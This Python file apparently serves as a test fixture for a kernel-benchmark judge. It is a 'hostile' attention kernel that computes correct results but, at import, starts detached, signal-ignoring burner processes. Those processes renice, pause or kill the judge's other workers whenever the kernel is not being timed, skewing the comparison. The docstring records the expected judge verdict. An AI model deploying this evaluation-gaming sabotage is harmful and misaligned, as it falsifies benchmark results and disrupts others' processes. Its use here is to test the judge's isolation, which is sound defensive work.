"""Hostile kernel, attack g (isolation): CPU burners that work on the others while it rests.

It computes exactly what kernels/reference/sdpa.py computes (the same torch call). At import it
starts min(4, cpu count) burners in sessions of their own (double fork, setsid, SIGTERM / SIGHUP /
SIGINT ignored, argv marked avo-hostile-@@MARK@@) that share a memfd with it: "inside
attention()" and the time it last left. Whenever the kernel has been out of attention() for more
than 5 ms — when the judge times or checks someone else — each burner burns CPU, renices every
other child of the kernel's parent (the judge's other workers) to 19, and pulses SIGSTOP/SIGCONT
on them (stopped 80 % of the time). Inside attention() they sleep, so the kernel's own timing is
clean.

Verdict: with incumbent=kernels/reference/sdpa.py, `ok` with incumbent_ratio < 2 (the attack aims
at 10x): the judge pauses every process the candidate started, however detached, while others
run. No marker process is left afterwards.
With TELL="1" a burner SIGKILLs every other worker it finds running (state R) while the kernel is
out of attention(), instead of slowing it: `ok` with the incumbent `ok` says that no burner ever
ran beside another worker's work, without timing anything.
"""
import math
import mmap
import os
import struct
import subprocess
import sys
import time

import torch.nn.functional as F

MARK = "avo-hostile-@@MARK@@"
TELL = "@@TELL@@" == "1"
_fd = os.memfd_create("avo-hostile-flag")
os.ftruncate(_fd, 16)
_shared = mmap.mmap(_fd, 16)

_BURNER = r'''
import mmap, os, signal, struct, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
if os.fork():
    os._exit(0)
os.setsid()
shared = mmap.mmap(int(sys.argv[2]), 16)
me, judge, tell = int(sys.argv[3]), int(sys.argv[4]), sys.argv[5] == "1"
def others():
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) not in (me, os.getpid()):
            try:
                if int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1]) == judge:
                    out.append(int(p))
            except (OSError, ValueError, IndexError):
                pass
    return out
end, stopped = time.time() + 60, []
while time.time() < end:
    inside, left = shared[0], struct.unpack("d", shared[8:16])[0]
    if inside or time.monotonic() - left < 0.005:
        time.sleep(0.0005)
        continue
    for pid in (others() if judge > 1 else []):
        if tell:
            try:
                if open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] == "R":
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
            continue
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
            os.kill(pid, signal.SIGSTOP)
            stopped.append(pid)
        except OSError:
            pass
    t = time.time() + 0.02
    while time.time() < t:
        pass
    for pid in stopped:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    stopped.clear()
    t = time.time() + 0.005
    while time.time() < t:
        pass
'''

for _ in range(min(4, os.cpu_count() or 1)):
    subprocess.Popen([sys.executable, "-c", _BURNER, MARK, str(_fd), str(os.getpid()), str(os.getppid()), "1" if TELL else "0"],
                     pass_fds=[_fd], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)


def attention(q, k, v, causal=False, softmax_scale=None, out=None):
    _shared[0] = 1
    try:
        scale = softmax_scale if softmax_scale is not None else 1.0 / math.sqrt(q.shape[-1])
        o = F.scaled_dot_product_attention(q.transpose(1, 2), k.transpose(1, 2), v.transpose(1, 2),
                                           is_causal=causal, scale=scale,
                                           enable_gqa=q.shape[2] != k.shape[2]).transpose(1, 2)
        if out is None:
            return o.contiguous()
        out.copy_(o)
        return out
    finally:
        _shared[8:16] = struct.pack("d", time.monotonic())
        _shared[0] = 0
